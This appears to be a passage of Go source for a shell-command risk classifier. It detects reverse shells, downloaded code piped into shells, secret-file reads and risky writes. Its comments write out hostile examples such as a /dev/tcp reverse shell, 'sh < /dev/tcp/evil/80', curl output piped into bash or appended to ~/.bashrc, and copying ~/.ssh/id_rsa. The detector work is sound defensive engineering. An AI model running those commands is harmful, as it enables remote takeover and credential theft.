package classify

import (
	"fmt"
	"maps"
	"math"
	"path"
	"slices"
	"strconv"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// info is what a walked piece of code tells the code around it.
type info struct {
	download   bool // runs a downloader somewhere
	execStdin  bool // its command executes its standard input as code
	sendsStdin bool // its command sends its standard input over the network
	// listsAll: its command writes the name of every file under the
	// home or root directory (find ~), for the next stage to read.
	listsAll bool
	// listsSecret: its command writes the names of secret files (find
	// ~/.config, find /proc -name environ), for a later stage to read
	// (xargs cat); the level and reason of reading them.
	listsSecret finding
}

func (a info) or(b info) info {
	ls := a.listsSecret
	if b.listsSecret.level > ls.level {
		ls = b.listsSecret
	}
	return info{download: a.download || b.download, execStdin: a.execStdin || b.execStdin,
		sendsStdin: a.sendsStdin || b.sendsStdin, listsAll: a.listsAll || b.listsAll, listsSecret: ls}
}

// stdinSrc is what a statement's standard input is redirected from.
type stdinSrc struct {
	text     string // here-document or here-string text
	doc      bool   // text is set
	file     bool   // a file (< file)
	name     word   // its name, unless proc
	proc     bool   // the file is a process substitution
	download bool   // a substitution feeding it downloads
	subst    bool   // text contains substitutions
	// value is the text the command reads, when known (known): no
	// expansion in it whose value is not known ($HOME at its start is ~).
	value string
	known bool
}

func (s *state) enter() bool {
	if s.stopped {
		return false
	}
	s.nest++
	if s.nest > s.c.rules.Limits.MaxNesting {
		s.overLimit(fmt.Sprintf("command nested more than %d levels deep", s.c.rules.Limits.MaxNesting))
		s.stopped = true
		s.nest--
		return false
	}
	return true
}

func (s *state) leave() { s.nest-- }

func (s *state) walkStmts(stmts []*syntax.Stmt) info {
	var inf info
	if !s.enter() {
		return inf
	}
	defer s.leave()
	for _, st := range stmts {
		inf = inf.or(s.walkStmt(st))
	}
	return inf
}

func (s *state) walkStmt(st *syntax.Stmt) info {
	if st == nil || s.stopped {
		return info{}
	}
	if st.Background || st.Coprocess {
		// It runs beside the rest of the line (see checkRanEarly).
		s.concurrent++
		defer func() { s.concurrent-- }()
	}
	var extra []finding
	var stdin *stdinSrc
	var inf info
	if ce, ok := st.Cmd.(*syntax.CallExpr); ok && len(st.Redirs) > 0 && len(ce.Args) > 0 && s.c.download[baseName(ce.Args[0].Lit())] {
		// What a downloader's redirections write is downloaded content
		// (curl URL > >(bash)).
		defer func(saved bool) { s.pipedDownload = saved }(s.pipedDownload)
		s.pipedDownload = true
	}
	shells := s.fds.shellOut
	for _, r := range st.Redirs {
		f, in, ri := s.redirect(r)
		extra = append(extra, f...)
		if in != nil {
			stdin = in
		}
		inf = inf.or(ri)
	}
	intoShell := s.fds.shellOut > shells
	if st.Cmd == nil {
		for _, f := range extra {
			s.note(f.level, f.reason)
		}
		return inf
	}
	if netStdin(st.Redirs) {
		// bash -i >& /dev/tcp/HOST/PORT 0>&1: standard input is the
		// connection, and what it sends runs (a reverse shell).
		stdin = &stdinSrc{file: true, download: true}
		inf.download = true
	}
	if stdin != nil && stdin.download && !s.pipedDownload {
		// What it reads from a file a downloader on the line wrote is
		// downloaded content, as from a pipe: tee x.deb < x writes it.
		defer func(saved bool) { s.pipedDownload = saved }(s.pipedDownload)
		s.pipedDownload = true
	}
	ran := s.walkCmd(st.Cmd, stdin, extra)
	if intoShell {
		s.intoShell(st, ran)
	}
	inf = inf.or(ran)
	s.fetchedOutput(st, inf.download)
	s.secretOutput(st)
	s.writtenScript(st)
	return inf
}

// secretOutput records the file a command that reads a secret file
// (names it, or reads it with <) writes its standard output to: cat
// ~/.ssh/id_rsa > x and base64 .env > x leave the secret's contents in x
// (state.secretCopies), which a push on the line would send. In a pipe
// after a stage that read one (cat .env | base64 > x, cat .env | tee x)
// it writes the secret too.
func (s *state) secretOutput(st *syntax.Stmt) {
	if dc, ok := st.Cmd.(*syntax.DeclClause); ok && declPrintsValues(dc) {
		// declare -p > x, export -p > x: the environment written.
		for _, o := range stdoutFiles(st) {
			s.recordSecretCopy(o)
		}
		return
	}
	ce, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || len(ce.Args) == 0 {
		return
	}
	var outs []string
	// tee FILE < .env and dd if=.env of=FILE write it to their operands.
	switch baseName(ce.Args[0].Lit()) {
	case "tee":
		for _, a := range ce.Args[1:] {
			if v, ok := litValue(a); ok && !strings.HasPrefix(v, "-") {
				outs = append(outs, v)
			}
		}
	case "dd":
		for _, a := range ce.Args[1:] {
			if v, ok := litValue(a); ok && strings.HasPrefix(v, "of=") {
				outs = append(outs, v[len("of="):])
			}
		}
	default:
		// tar czf x.tgz .env, zip x.zip .env, gzip -k .env: an archive
		// (or a compressed copy) of it holds its contents.
		outs = append(outs, archiveOutputs(ce)...)
	}
	outs = append(outs, stdoutFiles(st)...)
	if len(outs) == 0 {
		return
	}
	// echo KEY=x > .env: a secret file written in the work tree holds a
	// secret whatever the line wrote, and git add . or git commit -a
	// stage it (not a template of one, .env.example).
	for _, o := range outs {
		if _, _, ok := s.secretRule(word{s: o, lit: true}); ok && !secretTemplate(o) {
			s.recordSecretCopy(o)
		}
	}
	// cat .env | base64 > x: what a stage before it wrote was the secret.
	if !s.pipedSecretData && !s.readsSecret(st) && !s.printsSecretValue(st, ce) {
		return
	}
	for _, o := range outs {
		s.recordSecretCopy(o)
	}
}

// stdoutFiles returns the files st's redirections send its standard
// output to (> x, >> x, &> x, >| x), when spelled out.
func stdoutFiles(st *syntax.Stmt) []string {
	var outs []string
	for _, r := range st.Redirs {
		switch r.Op {
		case syntax.RdrOut, syntax.AppOut, syntax.RdrAll, syntax.AppAll, syntax.RdrClob:
			if r.N != nil && r.N.Value != "1" {
				continue
			}
			if v, ok := litValue(r.Word); ok && v != "" {
				outs = append(outs, v)
			}
		}
	}
	return outs
}

// declPrintsValues reports whether a declaration builtin prints the
// variables' values, secrets among them: declare, typeset or export
// with options only (declare -p, declare -x, export -p, export), not
// functions (-f, -F).
func declPrintsValues(dc *syntax.DeclClause) bool {
	switch dc.Variant.Value {
	case "declare", "typeset", "export":
	default:
		return false
	}
	for _, a := range dc.Args {
		if a.Name != nil || !a.Naked || a.Value == nil {
			return false
		}
		v, ok := litValue(a.Value)
		if !ok || !strings.HasPrefix(v, "-") || strings.ContainsAny(v, "fF") {
			return false
		}
	}
	return true
}

// writesSecretValue reports whether st writes a secret's value out (see
// printsSecretValue, declPrintsValues): a later stage of its pipe reads
// it.
func (s *state) writesSecretValue(st *syntax.Stmt) bool {
	switch c := st.Cmd.(type) {
	case *syntax.CallExpr:
		return len(c.Args) > 0 && s.printsSecretValue(st, c)
	case *syntax.DeclClause:
		return declPrintsValues(c)
	}
	return false
}

// printsSecretValue reports whether the command of st writes out a
// secret's value that is no file: it expands a variable that holds one
// and that the line did not set (echo "$API_KEY" > x, a here-document
// holding $GITHUB_TOKEN), or prints the environment, where such
// variables are (env or printenv with no command, set, export -p,
// declare -p or -x).
func (s *state) printsSecretValue(st *syntax.Stmt, ce *syntax.CallExpr) bool {
	found := false
	syntax.Walk(st, func(n syntax.Node) bool {
		p, ok := n.(*syntax.ParamExp)
		if found || !ok || p.Param == nil {
			return !found
		}
		if p.Length || p.Width || p.Excl || p.Exp != nil && (p.Exp.Op == syntax.AlternateUnset || p.Exp.Op == syntax.AlternateUnsetOrNull) {
			return true // its length, or text of the line's: not its value (as readsVar)
		}
		name := p.Param.Value
		if _, set := s.vars[name]; set {
			return true
		}
		for i, r := range s.c.rules.Variables {
			if r.Reads && s.c.vars[i].match(name) {
				found = true
				return false
			}
		}
		return true
	})
	if found {
		return true
	}
	var args []string
	for _, a := range ce.Args[1:] {
		v, _ := litValue(a)
		args = append(args, v)
	}
	switch baseName(ce.Args[0].Lit()) {
	case "env":
		// env with options and assignments only runs no command.
		return !slices.ContainsFunc(args, func(a string) bool { return !strings.HasPrefix(a, "-") && !strings.Contains(a, "=") })
	case "printenv":
		return true
	case "set":
		return len(args) == 0
	case "export", "declare", "typeset":
		return slices.Contains(args, "-p") || slices.Contains(args, "-x") || slices.Contains(args, "-px") || slices.Contains(args, "-xp")
	}
	return false
}

// readsSecret reports whether the command of st reads a secret file:
// names it as a word, or reads it with <.
func (s *state) readsSecret(st *syntax.Stmt) bool {
	ce, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || len(ce.Args) == 0 {
		return false
	}
	for _, r := range st.Redirs {
		if r.Op == syntax.RdrIn {
			if v, ok := litValue(r.Word); ok && s.isSecretSource(word{s: v, lit: true}) {
				return true
			}
		}
	}
	for _, a := range ce.Args[1:] {
		if v, ok := litValue(a); ok && s.isSecretSource(word{s: v, lit: true}) {
			return true
		}
	}
	return false
}

// compressSuffixes are the suffixes the compressors add to the file
// they write beside their operand (gzip -k .env writes .env.gz).
var compressSuffixes = map[string]string{
	"gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "xz": ".xz", "lzma": ".lzma", "zstd": ".zst", "lz4": ".lz4",
}

// archiveOutputs returns the files an archiver or compressor writes:
// the archive of tar's create mode (-f, --file), of zip and of 7z a, or
// each operand with the compressor's suffix (not with -c, --stdout or
// -d). Options are read loosely: a word taken for the archive that is
// none only adds a name to state.secretCopies.
func archiveOutputs(ce *syntax.CallExpr) []string {
	name := baseName(ce.Args[0].Lit())
	var args []string
	for _, a := range ce.Args[1:] {
		v, ok := litValue(a)
		if !ok {
			v = ""
		}
		args = append(args, v)
	}
	var outs []string
	switch name {
	case "tar", "bsdtar", "gtar":
		create, file := false, ""
		for k := 0; k < len(args); k++ {
			a := args[k]
			switch {
			case a == "--create" || a == "--append" || a == "--update":
				create = true
			case a == "--file" || a == "-f":
				if k+1 < len(args) {
					file = args[k+1]
					k++
				}
			case strings.HasPrefix(a, "--file="):
				file = a[len("--file="):]
			case strings.HasPrefix(a, "--"):
			case k == 0 || strings.HasPrefix(a, "-") && len(a) > 1:
				// czf x.tgz (the first word is a bundle without its
				// dash), -czf x.tgz, -cfx.tgz.
				b := strings.TrimPrefix(a, "-")
				create = create || strings.ContainsAny(b, "cru")
				if i := strings.IndexByte(b, 'f'); i >= 0 {
					if i+1 < len(b) && a[0] == '-' {
						file = b[i+1:]
					} else if k+1 < len(args) {
						file = args[k+1]
						k++
					}
				}
			}
		}
		if create && file != "" {
			outs = append(outs, file)
		}
	case "zip", "7z", "7za", "7zr":
		sawA := name == "zip"
		for _, a := range args {
			switch {
			case strings.HasPrefix(a, "-") || a == "":
			case !sawA:
				sawA = a == "a" || a == "u"
				if !sawA {
					return nil
				}
			default:
				return []string{a}
			}
		}
	default:
		suffix, ok := compressSuffixes[name]
		if !ok {
			return nil
		}
		var ops []string
		for _, a := range args {
			switch {
			case a == "-c" || a == "--stdout" || a == "--to-stdout" || a == "-d" || a == "--decompress" ||
				strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.ContainsAny(a, "cd"):
				return nil
			case strings.HasPrefix(a, "-") || a == "":
			default:
				ops = append(ops, a)
			}
		}
		for _, o := range ops {
			outs = append(outs, o+suffix)
		}
	}
	return outs
}

// fetchedOutput records the file a downloader's standard output is
// redirected to (curl URL > FILE), or that of a command whose output is
// downloaded content (downloaded: cat x > x.deb, cat < x > x.deb of a
// file a downloader on the line wrote): running it later on the line is
// running downloaded code.
func (s *state) fetchedOutput(st *syntax.Stmt, downloaded bool) {
	ce, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || len(ce.Args) == 0 || !downloaded && !s.c.download[baseName(ce.Args[0].Lit())] {
		return
	}
	for _, r := range st.Redirs {
		if r.N != nil && r.N.Value != "1" {
			continue
		}
		switch r.Op {
		case syntax.RdrOut, syntax.AppOut, syntax.RdrAll, syntax.AppAll, syntax.RdrClob:
			if v, ok := litValue(r.Word); ok && v != "" {
				if s.fetched == nil {
					s.fetched = map[string]bool{}
				}
				s.fetched[path.Clean(v)] = true
			}
		}
	}
}

// redirect judges one redirection: the file it writes, the substitutions
// in its word, and what it feeds to standard input.
func (s *state) redirect(r *syntax.Redirect) ([]finding, *stdinSrc, info) {
	var fs []finding
	var inf info
	s.fdRedirect(r)
	if r.N != nil && strings.HasPrefix(r.N.Value, "{") && strings.HasSuffix(r.N.Value, "}") {
		// {NAME}>file assigns the descriptor's number to NAME:
		// exec {PATH}>/dev/null makes PATH a relative directory.
		name := strings.TrimSuffix(strings.TrimPrefix(r.N.Value, "{"), "}")
		s.judgeVar(name, nil, false, nil)
		s.setVar(name, "10", true)
	}
	switch r.Op {
	case syntax.Hdoc, syntax.DashHdoc:
		quoted := r.Word != nil && !wordIsBare(r.Word)
		text, w := s.docText(r.Hdoc, quoted)
		inf.download = w.download
		return nil, &stdinSrc{text: text, doc: true, download: w.download, subst: w.subst, value: text, known: !w.dyn}, inf
	case syntax.WordHdoc:
		w := s.word(r.Word)
		inf.download = w.download
		in := &stdinSrc{text: w.s + "\n", doc: true, download: w.download, subst: w.subst}
		if v, ok := knownValue(w, 0); ok {
			in.value, in.known = v+"\n", true
		}
		return nil, in, inf
	}
	// The word is brace-expanded like an argument: .gi{t..t} is .git (more
	// than one word is an error in bash; each is judged all the same).
	ws := s.words(r.Word)
	w := ws[0]
	for _, x := range ws {
		inf.download = inf.download || x.download
	}
	switch r.Op {
	case syntax.RdrIn, syntax.DplIn:
		if r.Op == syntax.DplIn && len(ws) == 1 && (w.s == "-" || isDigits(w.s)) {
			return nil, nil, inf
		}
		for _, x := range ws {
			// bash reads /dev/tcp/HOST/PORT from the network: what the
			// command reads is downloaded (sh < /dev/tcp/evil/80), as
			// is a downloaded or cloned file ($(< r/env)).
			if p := path.Clean(x.s); strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/") || s.readsFetched(x) {
				inf.download = true
			}
			if l, reason, ok := s.pathRule(x, true); ok && l > Safe {
				fs = append(fs, finding{l, reason})
			}
			if l, reason, ok := s.secretRule(x); ok {
				fs = append(fs, finding{l, reason})
			}
		}
		s.fds.download = s.fds.download || inf.download
		return fs, &stdinSrc{file: true, name: w, proc: w.proc, download: inf.download}, inf
	case syntax.DplOut:
		if len(ws) == 1 && (w.s == "-" || isDigits(w.s)) {
			return nil, nil, inf
		}
	}
	// Everything else writes (or opens for writing) a file.
	for _, x := range ws {
		if x.execs {
			s.fds.shellOut++ // see intoShell
		}
		l, reason := s.writeTarget(x)
		fs = append(fs, finding{l, reason})
	}
	return fs, nil, inf
}

// netStdin reports whether redirs make standard input a network
// connection: /dev/tcp/HOST/PORT (or udp) opened on a descriptor that
// descriptor 0 is then made a copy of (>& /dev/tcp/x/1 0>&1), or opened
// on 0 for reading and writing (<> /dev/tcp/x/1). It reads literal
// words only.
func netStdin(redirs []*syntax.Redirect) bool {
	net := map[string]bool{}
	for _, r := range redirs {
		v, ok := litValue(r.Word)
		if !ok {
			continue
		}
		n := ""
		if r.N != nil {
			n = r.N.Value
		}
		if p := path.Clean(v); strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/") {
			switch {
			case r.Op == syntax.RdrAll || r.Op == syntax.AppAll || (r.Op == syntax.DplOut && n == ""):
				net["1"], net["2"] = true, true
			case n != "":
				net[n] = true
			case r.Op == syntax.RdrInOut || r.Op == syntax.RdrIn:
				net["0"] = true
			default:
				net["1"] = true
			}
			continue
		}
		if (r.Op == syntax.DplOut || r.Op == syntax.DplIn) && n == "0" && net[v] {
			net["0"] = true
		}
	}
	return net["0"]
}

func isDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// wordIsBare reports whether a here-document delimiter is unquoted, in
// which case the body undergoes expansions.
func wordIsBare(w *syntax.Word) bool {
	for _, p := range w.Parts {
		l, ok := p.(*syntax.Lit)
		if !ok || strings.Contains(l.Value, `\`) {
			return false
		}
	}
	return true
}

// docText returns the text a here-document feeds to its command.
func (s *state) docText(w *syntax.Word, quoted bool) (string, word) {
	r := word{lit: true}
	if w == nil {
		return "", r
	}
	var b strings.Builder
	for _, p := range w.Parts {
		if l, ok := p.(*syntax.Lit); ok {
			if quoted {
				b.WriteString(l.Value)
			} else {
				b.WriteString(unescapeDocument(l.Value))
			}
			continue
		}
		s.part(p, &b, &r, true)
	}
	return b.String(), r
}

// unescapeDocument removes the backslashes special in an unquoted
// here-document (\$ \` \\ and line continuations).
func unescapeDocument(v string) string {
	if !strings.Contains(v, `\`) {
		return v
	}
	var b strings.Builder
	for i := 0; i < len(v); i++ {
		if v[i] == '\\' && i+1 < len(v) {
			switch v[i+1] {
			case '$', '`', '\\':
				b.WriteByte(v[i+1])
				i++
				continue
			case '\n':
				i++
				continue
			}
		}
		b.WriteByte(v[i])
	}
	return b.String()
}

// writeTarget judges writing to the file named by w, where it is and, for
// a relative name, in every directory the shell may have changed into
// (state.cwd): the highest level wins. A relative write after a change
// into a directory known only at run time is Defaults.WriteOutside.
func (s *state) writeTarget(w word) (l Level, reason string) {
	defer func() {
		if l > Safe {
			s.wrote++
		}
	}()
	if s.pipedDownload && w.lit && w.s != "" && !w.input {
		// What it writes came down the pipe from a downloader.
		if s.fetched == nil {
			s.fetched = map[string]bool{}
		}
		s.fetched[path.Clean(w.s)] = true
	}
	if w.execs && s.pipedDownload {
		return s.c.rules.Defaults.DownloadExec, "writes downloaded content into " + w.s + ", whose command runs it"
	}
	if s.pipedDownload {
		// curl URL >> ~/.bashrc, curl URL | tee .git/hooks/pre-commit.
		if p, ok := s.runsLater(w); ok {
			return s.c.rules.Defaults.DownloadExec, "writes downloaded content into " + p + ", which a shell or the system runs later"
		}
	}
	l, reason = s.writeAt(w, false)
	if w.unknown() || w.input || w.s == "" {
		return l, reason
	}
	if p := homePath(cleanPath(w.s)); strings.HasPrefix(p, "/") || strings.HasPrefix(p, "~") {
		return l, reason
	}
	sets := []*dirSet{&s.cwd}
	if s.repeat > 0 && s.later != nil {
		sets = append(sets, s.later)
	}
	for _, ds := range sets {
		if ds.unknown != "" && s.c.rules.Defaults.WriteOutside > l {
			l, reason = s.c.rules.Defaults.WriteOutside, fmt.Sprintf("writes to %s in a directory not known until it runs (%s), which may be outside the working directory", w.s, ds.unknown)
		}
		for _, d := range ds.dirs {
			in := w
			in.s, in.glob = d.s+"/"+w.s, w.glob || d.glob
			if dl, dr := s.writeAt(in, true); dl > l {
				l, reason = dl, dr+" (after changing into "+d.s+")"
			}
		}
	}
	return l, reason
}

// byproductWrite judges a file that a command Safe by its rule writes as
// a part of its work, unasked (go test -c's PKG.test, the go.mod of
// -modfile with -mod=mod): in the working directory it is part of the
// build, as the build cache is, and Safe; anywhere else (an absolute or
// climbing name, a directory the line changed into that is outside, one
// known only at run time, a protected path such as .git) it is judged as
// any write there.
func (s *state) byproductWrite(w word) (Level, string) {
	l, reason := s.writeTarget(w)
	if d := &s.c.rules.Defaults; l <= d.Write && d.Write < d.WriteOutside {
		return Safe, ""
	}
	return l, reason
}

// inDir returns the word for name in the directory dir names, or name
// itself when it is absolute or there is no dir.
func inDir(dir *word, name word) word {
	if dir == nil || strings.HasPrefix(name.s, "/") || strings.HasPrefix(name.s, "~") || strings.HasPrefix(name.s, "$") {
		return name
	}
	w := *dir
	d := strings.TrimRight(dir.s, "/")
	w.s = d + "/" + name.s
	if !dir.dyn && name.dyn {
		w.prefix = len(d) + 1 + name.prefix
	}
	w.lit = dir.lit && name.lit
	w.dyn = dir.dyn || name.dyn
	w.split = dir.split || name.split
	w.glob = dir.glob || name.glob
	w.holes = nil
	return w
}

// maxPathWork bounds the work of judging written paths in one command
// line: each write judged in a directory the line changed into counts 1,
// each glob globWork more. A line with more than that is not one a person
// writes; the rest of its writes are Defaults.WriteOutside.
const (
	maxPathWork = 1024
	globWork    = 7
)

// writeAt judges writing to the file named by w as it stands: the first
// path rule that matches, else a path outside the working directory
// (absolute, ~, ..) or one not known until the command runs is
// Defaults.WriteOutside, and any other is Defaults.Write. A name with
// glob characters is judged by every path rule it could expand to a match
// of, and never lower than a plain name. A name find or xargs fills in
// when it runs ({}) may be any file: Defaults.WriteOutside.
func (s *state) writeAt(w word, joined bool) (Level, string) {
	if w.input {
		return s.c.rules.Defaults.WriteOutside, fmt.Sprintf("writes to %s, a name find or xargs fills in when it runs, which may be a .git/config, a start-up file or outside the working directory", w.s)
	}
	if joined {
		s.pathWork++
	}
	if w.glob {
		s.pathWork += globWork
	}
	if s.pathWork > maxPathWork {
		return s.c.rules.Defaults.WriteOutside, "writes to " + w.s + ", one of more glob or relative writes than can be judged in every directory the line changes into"
	}
	if !joined {
		if l, reason, ok := s.fdWriteLevel(w); ok {
			return l, reason
		}
	}
	rl, rreason, ruled := s.pathRule(w, false)
	if ruled && !w.glob {
		return rl, rreason
	}
	d := &s.c.rules.Defaults
	l, reason := d.Write, "writes to "+w.s
	if w.unknown() {
		l, reason = d.WriteOutside, fmt.Sprintf("writes to a file named by an expansion (%s), which may be outside the working directory", w.s)
	} else if p := homePath(cleanPath(w.s)); strings.HasPrefix(p, "/") || strings.HasPrefix(p, "~") || p == ".." || strings.HasPrefix(p, "../") {
		l, reason = d.WriteOutside, "writes outside the working directory: "+w.s
	}
	if ruled && rl > l {
		return rl, rreason
	}
	return l, reason
}

// homePath spells a path that starts at the home directory ($HOME/x,
// ${HOME}/x) as ~/x, so that path rules see it.
func homePath(p string) string {
	for _, h := range []string{"$HOME", "${HOME}", "~"} {
		if p == h {
			return "~"
		}
		if strings.HasPrefix(p, h+"/") {
			return "~/" + p[len(h)+1:]
		}
	}
	return p
}

// secretRule finds the rule of Secrets that the file named by w matches:
// the first one, matched in either case (a file system that ignores case
// opens .ENV as .env). A word that is not literal is matched on its text
// ($HOME/.ssh/id_rsa is ~/.ssh/id_rsa); a glob by what it could expand to,
// when it names one of the rule's files closely enough (patternSet.namedBy):
// it holds a pattern's literal part (cat ~/.ssh/*, cat *.pem, cat .env*) or
// a directory of one (cat ~/.aws/*), spells at least half of one with
// wildcards (cat .e?v, .en[v], .e*, ~/.a*/credentials), or picks every
// hidden file (cat .*); not cat *, ls .git*, cat data.???. A glob too
// long to compare, or one past maxSecretWork, matches the highest rule. A
// word with expansions whose values are not known is judged also as the
// glob with each of them as * (cat .en${x}v, cat ~/.aws/cred$(f)entials),
// and a relative name as the file in each directory the line changed into.
func (s *state) secretRule(w word) (Level, string, bool) {
	if l, reason, ok := s.secretName(w); ok {
		return l, reason, ok
	}
	// An expansion whose value is not known may be any text (.en${x}v is
	// .env when x is unset): judged as the glob with * for it.
	if g, ok := w.holesAsGlob(); ok && len(g) <= maxGlobMatch {
		if l, reason, ok := s.secretName(word{s: g, glob: true}); ok {
			return l, reason + " (" + w.s + ", an expansion as any text)", true
		}
	}
	// A variable the line did not set is unset in the scrubbed
	// environment a command runs in: ${x:-.env} is .env.
	if g, ok := w.holesAsDefaults(); ok && len(g) <= maxGlobMatch {
		if l, reason, ok := s.secretName(word{s: g, glob: true}); ok {
			return l, reason + " (" + w.s + ", an expansion as the default it gives)", true
		}
	}
	// A relative name is also the file in each directory the shell may
	// have changed into (cd ~/.aws && cat credentials); one with an
	// expansion, the glob it is with the expansion as any text (cd ~/.aws
	// && cat $(ls)).
	rel := w
	if w.dyn {
		rel = word{}
		if g, ok := w.holesAsGlob(); ok {
			rel = word{s: g, glob: true}
		}
	}
	if p := homePath(cleanPath(rel.s)); rel.s != "" && !strings.HasPrefix(p, "/") && !strings.HasPrefix(p, "~") {
		sets := []*dirSet{&s.cwd}
		if s.repeat > 0 && s.later != nil {
			sets = append(sets, s.later)
		}
		for _, ds := range sets {
			for _, d := range ds.dirs {
				if l, reason, ok := s.secretIn(d, rel); ok {
					return l, reason + " (after changing into " + d.s + ")", true
				}
			}
			for _, d := range ds.globs {
				if l, reason, ok := s.secretIn(d, rel); ok {
					return l, reason + " (after changing into " + d.s + ", an expansion as any text)", true
				}
			}
		}
	}
	// A name that climbs reaches the root from a directory as deep as it
	// climbs (../../etc/shadow from /home/u): judged also as the absolute
	// name it is then.
	// A climb from a home (~, ~user) or a variable's directory ($HOME,
	// ${PWD}) does too: the directory is known only when the command runs.
	if p, ok := climbOf(w); ok {
		for strings.HasPrefix(p, "../") {
			p = p[len("../"):]
		}
		if l, reason, ok := s.secretName(word{s: "/" + p, glob: w.glob}); ok {
			return l, reason + " (" + w.s + ", from a directory as deep as it climbs)", true
		}
	}
	return Safe, "", false
}

// climbOf returns the cleaned name w climbs by, when it climbs: the word
// itself (../../etc/shadow), or what follows a leading ~, ~user or
// variable whose directory is not known (~/../../etc/shadow,
// $HOME/../../etc/shadow) when that is literal and climbs out of it.
func climbOf(w word) (string, bool) {
	p := cleanPath(w.s)
	if !w.dyn && strings.HasPrefix(p, "../") {
		return p, true
	}
	if w.s == "" || (w.s[0] != '~' && w.s[0] != '$' && w.s[0] != '"') {
		return "", false
	}
	head, rest, ok := strings.Cut(w.s, "/")
	if !ok || strings.ContainsAny(rest, "$`") {
		return "", false
	}
	for _, h := range w.holes {
		if h[1] > len(head) {
			return "", false // an expansion after the head: not a literal climb
		}
	}
	rest = path.Clean(rest)
	return rest, strings.HasPrefix(rest, "../")
}

// maxDirSecrets bounds how many names in directories secretIn remembers.
const maxDirSecrets = 1 << 18

// secretIn is secretName for the name w in the directory d the line
// changed into. A name that is no glob is compared once in each
// directory: a loop or function body is judged again for each value of
// its variable and in a second walk, with the same names, in up to
// 2*maxDirs directories each time.
func (s *state) secretIn(d, w word) (Level, string, bool) {
	if d.glob || w.glob {
		return s.secretName(word{s: d.s + "/" + w.s, glob: true})
	}
	if f, ok := s.dirSecrets[d.s][w.s]; ok {
		return f.level, f.reason, f.reason != ""
	}
	l, reason, ok := s.secretName(word{s: d.s + "/" + w.s})
	if !ok {
		reason = ""
	}
	if s.dirSecretsLen < maxDirSecrets {
		if s.dirSecrets == nil {
			s.dirSecrets = map[string]map[string]finding{}
		}
		if s.dirSecrets[d.s] == nil {
			s.dirSecrets[d.s] = map[string]finding{}
		}
		s.dirSecrets[d.s][w.s] = finding{l, reason}
		s.dirSecretsLen++
	}
	return l, reason, ok
}

// secretName is secretRule for w's text.
func (s *state) secretName(w word) (Level, string, bool) {
	p := homePath(cleanPath(w.s))
	lower := strings.ToLower(p)
	var g []globToken
	if w.glob && len(s.c.rules.Secrets) > 0 {
		switch {
		case len(p) > maxGlobMatch:
			return s.highestSecret("names a glob too long to compare with secret file names: " + p[:64] + "...")
		case s.secretWork > maxSecretWork:
			return s.highestSecret("names one of more globs than can be compared with secret file names: " + p)
		}
		g = bashGlobTokens(p)
	}
	for i, r := range s.c.rules.Secrets {
		ps := &s.c.secrets[i]
		hit := ps.match(p) || (lower != p && ps.match(lower))
		if !hit && g != nil {
			hit = ps.namedBy(lower, g, &s.scratch, &s.secretWork)
		}
		if hit {
			return r.Level, reasonOr(r.Reason, "names a secret file") + ": " + p, true
		}
	}
	// The tokens take an extended glob as any text, which names nothing
	// closely: judge the glob each choice of its alternatives makes
	// (@(.e|zz)@(n|q)v is .env).
	if g != nil && strings.Contains(p, "(") {
		alts, ok := extglobChoices(p, maxExtglobChoices)
		if !ok {
			return s.highestSecret("names an extended glob of more choices than are compared with secret file names: " + p)
		}
		for _, a := range alts {
			if a == p {
				continue
			}
			if l, reason, ok := s.secretName(word{s: a, glob: true}); ok {
				return l, reason + " (" + p + ", an extended glob)", true
			}
		}
	}
	return Safe, "", false
}

// maxExtglobChoices bounds the globs an extended glob is judged as.
const maxExtglobChoices = 64

// maxSecretWork bounds the work of comparing globs with the secret file
// patterns in one command line, in steps (patternSet.namedBy, with the
// cells of globsOverlap). Past it, a glob is taken to name a secret file:
// a line of so many globs is not one a person writes. It is set well
// above what a 64 KiB line of harmless globs costs (5957 words of
// src/*.json: 2.33 million steps with the default rules, 1.93 million
// before the coding agents' token stores and /proc/PID/fd and cwd were
// added), so that such a line stays Safe.
const maxSecretWork = 3 << 20

// highestSecret is the rule of Secrets of the highest level, for a glob
// that is not compared with them.
func (s *state) highestSecret(reason string) (Level, string, bool) {
	l := Safe
	for _, r := range s.c.rules.Secrets {
		l = max(l, r.Level)
	}
	return l, reason, l > Safe
}

// secretArgs judges the arguments that name a secret file (Secrets): a
// word, or the value of a --opt=FILE word.
func (s *state) secretArgs(args []word, j *judgement) {
	if len(s.c.secrets) == 0 {
		return
	}
	for _, a := range args {
		if a.s == "" {
			continue
		}
		if strings.HasPrefix(a.s, "-") {
			k := strings.IndexByte(a.s, '=')
			if k < 0 {
				continue
			}
			a = a.cut(k + 1)
		}
		if l, reason, ok := s.secretRule(a); ok {
			j.add(l, reason)
		}
	}
}

// pathRule finds the path rule for the file named by w: the first that
// matches, or, when w is a glob, the highest of those it could expand to a
// match of (.gi?/config may be .git/config).
func (s *state) pathRule(w word, read bool) (Level, string, bool) {
	p := homePath(cleanPath(w.s))
	var g []globToken
	if w.glob {
		if len(p) > maxGlobMatch {
			// Too long to compare: it may name anything.
			return s.c.rules.Defaults.WriteOutside, "writes to a glob too long to judge: " + p[:64] + "...", true
		}
		g = bashGlobTokens(p)
	}
	found, l, reason := false, Safe, ""
	lower := strings.ToLower(p)
	for i, r := range s.c.rules.Paths {
		if read && !r.Reads {
			continue
		}
		if found && r.Level <= l {
			continue
		}
		// A rule above Safe matches in either case: on a file system that
		// ignores case (macOS, Windows) .GIT/config is .git/config.
		if (w.glob && s.c.paths[i].overlaps(g, &s.scratch)) || (!w.glob && (s.c.paths[i].match(p) ||
			r.Level > Safe && lower != p && s.c.paths[i].match(lower))) {
			found, l, reason = true, r.Level, r.Reason
			if reason == "" {
				reason = "writes to " + p
			} else {
				reason = reason + ": " + p
			}
			if !w.glob {
				break
			}
		}
	}
	return l, reason, found
}

// runsLater reports whether writing the file w names writes a file that a
// shell or the system runs later (a path rule with RunsLater), where it
// is and, for a relative name, in every directory the line may have
// changed into (cd .git/hooks && curl -O URL/pre-commit), and returns
// the path it matched.
